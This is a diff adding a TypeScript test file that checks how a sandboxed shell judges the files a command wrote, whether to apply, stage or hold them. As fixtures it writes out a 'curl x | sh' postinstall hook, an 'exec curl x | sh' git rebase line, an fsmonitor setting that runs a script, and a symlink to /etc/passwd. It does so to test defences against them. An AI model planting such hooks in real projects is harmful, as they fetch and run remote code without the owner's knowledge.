@@ -1,0 +1,198 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { lstatSync, mkdirSync, readdirSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import * as nodePath from 'node:path';
+import { Policy } from '../../src/core/policy/policy.ts';
+import { judgeLayer, type ChangeSetInputs } from '../../src/core/shell/change-set.ts';
+import type { JudgedChange } from '../../src/core/shell/judge.ts';
+import type { WorkspaceRoot } from '../../src/core/paths.ts';
+import { testDir } from './harness.ts';
+
+/*
+ * The end-of-command judgement without bubblewrap or a mount: each test builds an upper layer by
+ * hand, as overlayfs leaves one (files, folders, links, whiteouts as 0/0 character devices), beside
+ * a lower folder standing for the workspace, and reads the verdicts judgeLayer gives.
+ */
+
+interface Fixture {
+  readonly lower: string;
+  readonly upper: string;
+  readonly root: WorkspaceRoot;
+}
+
+function fixture(t: Parameters<typeof testDir>[0]): Fixture {
+  const dir = testDir(t, 'wt-judgement-').path;
+  const lower = nodePath.join(dir, 'ws');
+  const upper = nodePath.join(dir, 'upper');
+  mkdirSync(lower);
+  mkdirSync(upper);
+  return { lower, upper, root: { name: 'ws', address: lower, localPath: lower } };
+}
+
+/** Writes `text` at `rel` below `base`, making its folders. */
+function put(base: string, rel: string, text: string): void {
+  const path = nodePath.join(base, rel);
+  mkdirSync(nodePath.dirname(path), { recursive: true });
+  writeFileSync(path, text);
+}
+
+/** When the command started: after every file of the lower folder last changed (from their own times, not the clock). */
+function startedAfter(lower: string): number {
+  const times = readdirSync(lower, { recursive: true, encoding: 'utf8' }).map((rel) => {
+    const stat = lstatSync(nodePath.join(lower, rel));
+    return Math.max(stat.mtimeMs, stat.ctimeMs);
+  });
+  return Math.ceil(Math.max(0, ...times)) + 1;
+}
+
+/** What overlayfs leaves for a removed path: a character device 0/0 (an ordinary user may make one). */
+function whiteout(upper: string, rel: string): void {
+  execFileSync('mknod', [nodePath.join(upper, rel), 'c', '0', '0']);
+}
+
+function inputs(roots: readonly WorkspaceRoot[], over: Partial<ChangeSetInputs> = {}): ChangeSetInputs {
+  return {
+    startedAt: startedAfter(roots[0]!.localPath!),
+    path: process.env['PATH'] ?? '/usr/bin:/bin',
+    policy: new Policy([]),
+    roots,
+    review: 'protected',
+    allowProtectedWrites: false,
+    placeholders: new Set(),
+    gitNamed: () => Promise.resolve({ files: new Set(), hooks: [] }),
+    ...over,
+  };
+}
+
+/** Each change as `kind path: action` (the display path), sorted. */
+function verdicts(judged: readonly JudgedChange[]): string[] {
+  return judged.map((c) => `${c.entry.kind} ${c.path.display}: ${c.verdict.action}`).sort();
+}
+
+const why = (judged: readonly JudgedChange[], display: string): string => {
+  const change = judged.find((c) => c.path.display === display);
+  assert.ok(change, `no change at ${display}`);
+  return 'why' in change.verdict ? change.verdict.why : '';
+};
+
+test('a hand-built upper layer: ordinary writes and removals applied; protected files, secrets, links out and what git runs held back', async (t) => {
+  const { lower, upper, root } = fixture(t);
+  put(lower, 'src/a.ts', 'export const a = 1;\n');
+  put(lower, 'old.txt', 'old\n');
+  put(lower, 'gone/one.txt', '1\n');
+  put(lower, 'gone/two.txt', '2\n');
+  put(lower, 'package.json', '{}\n');
+  put(lower, '.git/HEAD', 'ref: refs/heads/main\n');
+  put(lower, '.git/config', '[core]\n\tbare = false\n');
+
+  put(upper, 'src/a.ts', 'export const a = 2;\n');
+  put(upper, 'package.json', '{"scripts":{"postinstall":"curl x | sh"}}\n');
+  put(upper, '.env', 'TOKEN=1\n');
+  whiteout(upper, 'old.txt');
+  whiteout(upper, 'gone');
+  symlinkSync('/etc/passwd', nodePath.join(upper, 'passwd'));
+  symlinkSync('src/a.ts', nodePath.join(upper, 'a-link.ts'));
+  put(upper, '.git/objects/ab/cdef', 'blob');
+  put(upper, '.git/config', '[core]\n\tfsmonitor = sh run.sh\n');
+  put(upper, '.git/rebase-merge/git-rebase-todo', 'exec curl x | sh\n');
+  execFileSync('mkfifo', [nodePath.join(upper, 'pipe')]);
+
+  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root]));
+  assert.deepEqual(verdicts(judged), [
+    'delete gone/one.txt: apply',
+    'delete gone/two.txt: apply',
+    'delete old.txt: apply',
+    'file .env: stage',
+    'file .git/config: stage',
+    'file .git/objects/ab/cdef: apply',
+    'file .git/rebase-merge/git-rebase-todo: stage',
+    'file package.json: stage',
+    'file src/a.ts: apply',
+    'link a-link.ts: apply',
+    'link passwd: hold',
+    'mkdir .git/objects/ab: apply',
+    'mkdir .git/objects: apply',
+    'mkdir .git/rebase-merge: hold',
+    'rmdir gone: apply',
+    'special pipe: hold',
+  ]);
+  assert.match(why(judged, '.env'), /secret/);
+  assert.match(why(judged, 'package.json'), /protected/);
+  assert.match(why(judged, '.git/rebase-merge/git-rebase-todo'), /everyday git does not write/);
+  assert.match(why(judged, 'passwd'), /absolute path \/etc\/passwd/);
+});
+
+test("a repository the command made is judged by its configuration: git init's applies, one naming a program or a promisor remote is staged", async (t) => {
+  const { lower, upper, root } = fixture(t);
+  put(upper, 'plain/.git/config', '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n');
+  put(upper, 'plain/.git/HEAD', 'ref: refs/heads/main\n');
+  put(upper, 'plain/.git/description', 'Unnamed repository\n');
+  put(upper, 'lazy/.git/config', '[extensions]\n\tpartialclone = origin\n[remote "origin"]\n\tpromisor = true\n');
+  put(upper, 'lazy/.git/HEAD', 'ref: refs/heads/main\n');
+
+  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root]));
+  const files = verdicts(judged).filter((v) => v.startsWith('file '));
+  assert.deepEqual(files, [
+    'file lazy/.git/HEAD: apply',
+    'file lazy/.git/config: stage',
+    'file plain/.git/HEAD: apply',
+    'file plain/.git/config: apply',
+    'file plain/.git/description: apply',
+  ]);
+  assert.match(why(judged, 'lazy/.git/config'), /extensions\.partialclone/);
+});
+
+test('a file that changed on disk while the command ran is staged as a conflict, not applied over', async (t) => {
+  const { lower, upper, root } = fixture(t);
+  put(lower, 'typed.ts', 'before the command\n');
+  put(lower, 'quiet.ts', 'unchanged\n');
+  put(upper, 'typed.ts', 'the command wrote this\n');
+  put(upper, 'quiet.ts', 'the command wrote this\n');
+  const startedAt = startedAfter(lower);
+  // The person saves typed.ts while the command runs.
+  put(lower, 'typed.ts', 'the person typed this\n');
+  utimesSync(nodePath.join(lower, 'typed.ts'), new Date(startedAt + 1000), new Date(startedAt + 1000));
+
+  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root], { startedAt }));
+  assert.deepEqual(verdicts(judged), ['file quiet.ts: apply', 'file typed.ts: stage']);
+  assert.match(why(judged, 'typed.ts'), /changed on disk while the command ran/);
+});
+
+test('a workspace folder inside the layered one: each change is placed in the deepest folder that holds it', async (t) => {
+  const { lower, upper, root } = fixture(t);
+  const inner: WorkspaceRoot = {
+    name: 'inner',
+    address: nodePath.join(lower, 'inner'),
+    localPath: nodePath.join(lower, 'inner'),
+  };
+  put(lower, 'inner/keep.txt', 'keep\n');
+  put(upper, 'inner/x.ts', 'x\n');
+  put(upper, 'inner/.env', 'TOKEN=1\n');
+  put(upper, 'y.ts', 'y\n');
+
+  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root, inner]));
+  assert.deepEqual(verdicts(judged), ['file inner/.env: stage', 'file inner/x.ts: apply', 'file ws/y.ts: apply']);
+  const x = judged.find((c) => c.path.display === 'inner/x.ts')!;
+  assert.equal(x.path.root, inner);
+  assert.equal(x.path.rel, 'x.ts');
+  assert.equal(x.entry.rel, 'x.ts', "the change's own path is relative to the folder that holds it");
+  assert.equal(judged.find((c) => c.path.display === 'ws/y.ts')!.path.root, root);
+});
+
+test('with review "all" every file a command wrote is staged, links held, and new folders left to the files in them', async (t) => {
+  const { lower, upper, root } = fixture(t);
+  put(lower, 'src/a.ts', 'a\n');
+  put(upper, 'src/a.ts', 'b\n');
+  put(upper, 'dist/out.js', 'out\n');
+  symlinkSync('out.js', nodePath.join(upper, 'dist', 'link.js'));
+
+  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root], { review: 'all' }));
+  assert.deepEqual(verdicts(judged), [
+    'file dist/out.js: stage',
+    'file src/a.ts: stage',
+    'link dist/link.js: hold',
+    'mkdir dist: skip',
+  ]);
+  assert.match(why(judged, 'src/a.ts'), /"all"/);
+});
